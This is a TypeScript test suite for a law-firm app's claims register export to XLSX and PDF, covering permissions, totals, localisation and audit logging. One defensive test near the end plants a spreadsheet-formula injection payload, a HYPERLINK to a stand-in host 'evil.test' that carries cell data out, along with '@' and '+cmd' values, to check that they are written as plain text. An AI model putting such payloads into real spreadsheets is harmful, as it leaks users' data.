import { ValueType, Workbook } from 'exceljs';
import { renderRegisterXlsx } from '../../src/claims/register-xlsx';
import { pdfText, registerFixture, rowsOf, sheetsOf } from '../claims-register-fixture';
import { type FilesWorld, loadWorld } from '../files-fixtures';
import { createTestApp, loginAll, type SignedIn, type TestApp } from '../helper';

/** The claims register (bevakningsförteckning) as XLSX and PDF. */

let t: TestApp;
let w: FilesWorld;
let as: Record<'anna' | 'ulf' | 'karin' | 'admin' | 'leverantor' | 'bygg' | 'inkasso', SignedIn>;
let caseId: number;

beforeAll(async () => {
  t = await createTestApp();
  w = await loadWorld(t.db);
  as = await loginAll(t.app);
  caseId = await registerFixture(t, w);
});
afterAll(() => t.close());

const register = (who: SignedIn | null, query: string) =>
  t.app.inject({
    method: 'GET',
    url: `/api/LawFirm/claimsRegister?${query}`,
    headers: who ? who.headers : {},
  });

const ore = (value: unknown) => Math.round(Number(value ?? 0) * 100);

describe('who may export the claims register', () => {
  it('serves A and U of the firm the XLSX, named after the case', async () => {
    for (const who of [as.anna, as.ulf]) {
      const res = await register(who, `caseId=${caseId}&format=xlsx`);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      expect(res.headers['content-disposition']).toContain('filename="bevakningsforteckning-K_77-26.xlsx"');
      expect(res.headers['cache-control']).toBe('private, no-store');
      expect(res.rawPayload.subarray(0, 2).toString()).toBe('PK');
    }
  });

  it('refuses C, D and S with 403, and no token with 401', async () => {
    for (const who of [as.leverantor, as.bygg, as.inkasso, as.admin])
      expect((await register(who, `caseId=${caseId}&format=xlsx`)).statusCode).toBe(403);
    expect((await register(null, `caseId=${caseId}&format=xlsx`)).statusCode).toBe(401);
  });

  it("answers another firm's case as a missing one (404), without telling it exists", async () => {
    const other = await register(as.karin, `caseId=${caseId}&format=pdf`);
    const missing = await register(as.karin, 'caseId=999999&format=pdf');
    expect(other.statusCode).toBe(404);
    expect(missing.statusCode).toBe(404);
    expect(other.json().message).toBe(missing.json().message);
  });

  it('answers 400 for a format or language it does not have, or without a case', async () => {
    for (const query of [
      `caseId=${caseId}&format=csv`,
      `caseId=${caseId}`,
      `caseId=${caseId}&format=xlsx&lang=de`,
      'format=xlsx',
    ]) {
      const res = await register(as.anna, query);
      expect({ query, status: res.statusCode }).toEqual({ query, status: 400 });
      expect(res.json().isSuccess).toBe(false);
    }
  });

  it('records the export in the audit log', async () => {
    await register(as.ulf, `caseId=${caseId}&format=pdf`);
    const rows = await t.db
      .selectFrom('audit_log')
      .select(['action', 'entity', 'details'])
      .where('case_id', '=', caseId)
      .where('entity', '=', 'claimsRegister')
      .execute();
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.map((r) => r.action)).toContain('export');
  });
});

describe('the XLSX', () => {
  it('groups by priority, then status, with totals that add up and a grand total (Swedish by default)', async () => {
    const book = await sheetsOf(await register(as.anna, `caseId=${caseId}&format=xlsx`));
    const sheet = book.getWorksheet('Bevakningsförteckning');
    if (!sheet) throw new Error('no register sheet');
    const rows = rowsOf(sheet);
    const labels = rows.map((r) => r[1]).filter((v): v is string => typeof v === 'string');
    const order = [
      'Fordringar med förmånsrätt',
      'Fordringar med förmånsrätt, Väntande',
      'Summa fordringar med förmånsrätt, Väntande',
      'Fordringar med förmånsrätt, Godkänd',
      'Summa fordringar med förmånsrätt, Godkänd',
      'Summa fordringar med förmånsrätt',
      'Oprioriterade fordringar',
      'Oprioriterade fordringar, Väntande',
      'Oprioriterade fordringar, Avvisad',
      'Oprioriterade fordringar, Betald',
      'Summa oprioriterade fordringar',
      'Summa totalt',
    ];
    const at = order.map((label) => labels.indexOf(label));
    expect(at.every((i) => i >= 0)).toBe(true);
    expect([...at].sort((a, b) => a - b)).toEqual(at);

    // Every status total is the sum of the claim rows above it; every priority total of its status totals.
    let claimed = 0;
    let approved = 0;
    let count = 0;
    const statusTotals: { claimed: number; approved: number; count: number }[] = [];
    let priority = { claimed: 0, approved: 0, count: 0 };
    const grand = { claimed: 0, approved: 0, count: 0 };
    for (const row of rows) {
      const label = typeof row[1] === 'string' ? row[1] : '';
      if (typeof row[0] === 'number') {
        claimed += ore(row[4]);
        approved += ore(row[5]);
        count += 1;
      } else if (label.startsWith('Summa') && label.includes(',')) {
        expect({ label, claimed: ore(row[4]), approved: ore(row[5]), count: row[2] }).toEqual({
          label,
          claimed,
          approved,
          count: `${count} ${count === 1 ? 'fordran' : 'fordringar'}`,
        });
        statusTotals.push({ claimed, approved, count });
        priority = {
          claimed: priority.claimed + claimed,
          approved: priority.approved + approved,
          count: priority.count + count,
        };
        claimed = approved = count = 0;
      } else if (label.startsWith('Summa') && label !== 'Summa totalt') {
        expect([ore(row[4]), ore(row[5])]).toEqual([priority.claimed, priority.approved]);
        grand.claimed += priority.claimed;
        grand.approved += priority.approved;
        grand.count += priority.count;
        priority = { claimed: 0, approved: 0, count: 0 };
      } else if (label === 'Summa totalt') {
        expect([ore(row[4]), ore(row[5]), row[2]]).toEqual([grand.claimed, grand.approved, '6 fordringar']);
      }
    }
    expect(statusTotals).toHaveLength(5);
    expect(grand).toEqual({ claimed: 480050, approved: 225025, count: 6 });
  });

  it('shows each claim with its number, creditor, filer, approved amount, status, time and late mark', async () => {
    const book = await sheetsOf(await register(as.anna, `caseId=${caseId}&format=xlsx&lang=sv`));
    const sheet = book.getWorksheet('Bevakningsförteckning');
    if (!sheet) throw new Error('no register sheet');
    const rows = rowsOf(sheet);
    const head = rows.find((r) => r[0] === 'Nr');
    expect(head).toEqual([
      'Nr',
      'Borgenär',
      'Org.nr',
      'Bevakad av',
      'Bevakat belopp (kr)',
      'Godkänt belopp (kr)',
      'Beslutad förmånsrätt',
      'Status',
      'Bevakad',
      'Försenad',
      'Anmärkningar',
    ]);
    const claims = new Map(rows.filter((r) => typeof r[0] === 'number').map((r) => [r[0], r]));
    expect(claims.get(2)?.slice(1, 8)).toEqual([
      'Byggvaror i Norr AB',
      expect.any(String),
      'Byggvaror i Norr AB',
      2000.5,
      1500.25,
      undefined, // no class decided
      'Godkänd',
    ]);
    // Approved without an amount: approved in full. Pending and rejected claims have none.
    expect(claims.get(3)?.[5]).toBe(300);
    expect(claims.get(1)?.[5] ?? null).toBeNull();
    expect(claims.get(4)?.[5] ?? null).toBeNull();
    expect(claims.get(5)?.[3]).toBe('Nordisk Inkasso AB för Byggvaror i Norr AB');
    expect(claims.get(6)?.[3]).toBe('Anna Berg (Nordlaw Advokatbyrå)');
    // Filed at 23:59:59 Swedish time on the deadline: in time; a second later: late.
    expect(claims.get(2)?.[8]).toEqual(new Date('2026-03-31T23:59:59Z'));
    const late = [...claims.entries()].filter(([, r]) => r[9] === 'Försenad').map(([n]) => n);
    expect(late).toEqual([3, 4]);
    const summary = book.getWorksheet('Sammanställning');
    const last = summary ? rowsOf(summary).at(-1) : undefined;
    expect(last?.slice(0, 5)).toEqual(['Summa totalt', 'Alla statusar', 6, 4800.5, 2250.25]);
  });

  it('is in English with lang=en', async () => {
    const res = await register(as.ulf, `caseId=${caseId}&format=xlsx&lang=en`);
    expect(res.headers['content-disposition']).toContain('filename="claims-register-K_77-26.xlsx"');
    const sheet = (await sheetsOf(res)).getWorksheet('Claims register');
    if (!sheet) throw new Error('no register sheet');
    const rows = rowsOf(sheet);
    const labels = rows.map((r) => r[1]);
    expect(labels).toEqual(expect.arrayContaining(['Priority right', 'Non-priority claims', 'Grand total']));
    expect(rows.filter((r) => typeof r[0] === 'number' && r[9] === 'Late')).toHaveLength(2);
    expect(rows.some((r) => r[7] === 'Paid')).toBe(true);
  });

  it('gives an empty case a zero grand total', async () => {
    const empty = (
      await t.db
        .insertInto('cases')
        .values({
          law_firm_id: w.nordlawId,
          debtor_name: 'Tom AB',
          debtor_orgnr: '556000-0001',
          knr: 'K 78-26',
          status: 1,
        })
        .returning('case_id')
        .executeTakeFirstOrThrow()
    ).case_id;
    const sheet = (await sheetsOf(await register(as.anna, `caseId=${empty}&format=xlsx`))).getWorksheet(
      'Bevakningsförteckning',
    );
    const rows = sheet ? rowsOf(sheet) : [];
    expect(rows.some((r) => r[1] === 'Inga fordringar har bevakats.')).toBe(true);
    expect(rows.at(-1)?.slice(1, 6)).toEqual(['Summa totalt', '0 fordringar', undefined, 0, 0]);
  });
  // The CSV-injection rule (OWASP) holds for the workbook too: a name is a text cell, never a formula.
  it('writes a creditor name that looks like a formula as text', async () => {
    const hostile = '=HYPERLINK("http://evil.test/?d="&A1,"Öppna")';
    const claim = {
      claimId: 1,
      claimNumber: 1,
      creditorName: hostile,
      creditorOrgNr: '@SUM(1+1)',
      createdBy: '+cmd',
      isCreatedByLawFirm: false,
      lawFirmName: 'Nordlaw Advokatbyrå',
      debtByDebtCollector: false,
      debtCollectorName: null,
      claimAmount: '10.00',
      approvedAmount: null,
      status: 'Pending' as const,
      priorityRight: false,
      createdOn: new Date('2026-03-01T09:00:00Z'),
      isLate: false,
      priorityClass: null,
      priorityAsset: null,
      withdrawnOn: null,
    };
    const totals = { count: 1, claimAmount: '10.00', approvedAmount: '0.00' };
    const bytes = await renderRegisterXlsx({
      case: {
        caseId: 1,
        knr: 'K 1-26',
        debtorName: 'X AB',
        debtorOrgnr: '556000-0000',
        lawFirmName: 'N',
        claimsDeadline: null,
      },
      language: 'sv',
      drawnUp: new Date(),
      groups: [{ priorityRight: false, totals, statuses: [{ status: 'Pending', totals, claims: [claim] }] }],
      total: totals,
    });
    const book = new Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const cells: { value: unknown; type: ValueType }[] = [];
    book.getWorksheet('Bevakningsförteckning')?.eachRow((row) => {
      row.eachCell((cell) => {
        cells.push({ value: cell.value, type: cell.type });
      });
    });
    for (const value of [hostile, '@SUM(1+1)', '+cmd'])
      expect(cells.find((cell) => cell.value === value)?.type).toBe(ValueType.String);
    expect(cells.some((cell) => cell.type === ValueType.Formula)).toBe(false);
  });
});

describe('the PDF', () => {
  it('is a PDF with the groups, the late marks and the totals', async () => {
    const res = await register(as.anna, `caseId=${caseId}&format=pdf`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toContain('bevakningsforteckning-K_77-26.pdf');
    expect(res.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
    const text = pdfText(res.rawPayload);
    for (const expected of [
      'Bevakningsförteckning',
      'K 77-26',
      'Provbolaget Åkesson AB',
      'Fordringar med förmånsrätt',
      'Oprioriterade fordringar, Betald',
      'Summa fordringar med förmånsrätt',
      '3 300,50',
      '1 800,25',
      'Summa totalt',
      '4 800,50',
      '2 250,25',
      'Försenad',
      'Sida 1 av 1',
    ])
      expect({ expected, found: text.includes(expected) }).toEqual({ expected, found: true });
    const english = pdfText((await register(as.anna, `caseId=${caseId}&format=pdf&lang=en`)).rawPayload);
    expect(english).toContain('Grand total');
    expect(english).toContain('4,800.50');
  });
});
